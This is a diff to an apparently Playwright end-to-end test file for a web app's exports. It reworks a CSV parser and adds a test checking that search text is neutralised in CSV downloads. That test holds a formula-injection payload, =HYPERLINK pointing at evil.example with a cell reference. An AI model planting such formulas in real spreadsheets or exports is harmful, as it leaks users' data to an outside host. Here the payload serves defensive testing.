@@ -7,16 +7,13 @@ async function downloadFrom(button: Locator): Promise<{ name: string; body: Buff
   return { name: download.suggestedFilename(), body: await readFile(await download.path()) }
 }
 
-/** RFC 4180 as a spreadsheet reads it, after the `#` citation lines: quoted cells may hold commas and quotes. */
+/**
+ * RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks. The citation lines are
+ * rows of one cell that starts with `# `.
+ */
 function parseCsv(text: string): { citation: Map<string, string>; rows: string[][] } {
-  const lines = text.replace(/^\uFEFF/, '').split('\r\n')
-  const citation = new Map<string, string>()
-  for (const line of lines.filter((entry) => entry.startsWith('# '))) {
-    const [label = '', ...value] = line.slice(2).split(': ')
-    citation.set(label, value.join(': '))
-  }
-  const body = lines.filter((line) => !line.startsWith('# ')).join('\r\n')
-  const rows: string[][] = []
+  const body = text.replace(/^\uFEFF/, '')
+  const all: string[][] = []
   let row: string[] = []
   let cell = ''
   let quoted = false
@@ -32,7 +29,7 @@ function parseCsv(text: string): { citation: Map<string, string>; rows: string[]
       cell = ''
     } else if (!quoted && char === '\r' && body[index + 1] === '\n') {
       row.push(cell)
-      rows.push(row)
+      all.push(row)
       row = []
       cell = ''
       index++
@@ -40,7 +37,13 @@ function parseCsv(text: string): { citation: Map<string, string>; rows: string[]
       cell += char
     }
   }
-  return { citation, rows }
+  const isCitation = (entry: string[]) => entry.length === 1 && (entry[0] ?? '').startsWith('# ')
+  const citation = new Map<string, string>()
+  for (const [line = ''] of all.filter(isCitation)) {
+    const [label = '', ...value] = line.slice(2).split(': ')
+    citation.set(label, value.join(': '))
+  }
+  return { citation, rows: all.filter((entry) => !isCitation(entry)) }
 }
 
 test.describe('exports', () => {
@@ -82,6 +85,17 @@ test.describe('exports', () => {
     expect(parsed.citation.datasetVersion).toBe(citation.get('Dataset version'))
     expect(parsed.citation.url).toBe(citation.get('View'))
     expect(parsed.items.map((item) => [item.id, item.status])).toEqual(items.map((item) => [item[0], item[5]]))
+  })
+
+  test('a CSV exported with a formula in the search has no cell a spreadsheet would run', async ({ page }) => {
+    const formula = 'x,=HYPERLINK("https://evil.example/"&A1),+1,-1,@SUM(A1)'
+    await page.goto(`/?view=board&q=${encodeURIComponent(formula)}`)
+    await expect(page.getByRole('searchbox')).toHaveValue(formula)
+    const csv = await downloadFrom(page.getByRole('button', { name: 'Download the filtered items as CSV' }))
+    const { citation, rows } = parseCsv(csv.body.toString('utf8'))
+    expect(citation.get('Filters')).toContain(formula)
+    const cells = [...rows.flat(), ...[...citation.values()]]
+    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
   })
 
   test('a chart downloads as PNG and SVG stamped with its title, date, filters and sources', async ({ page }) => {
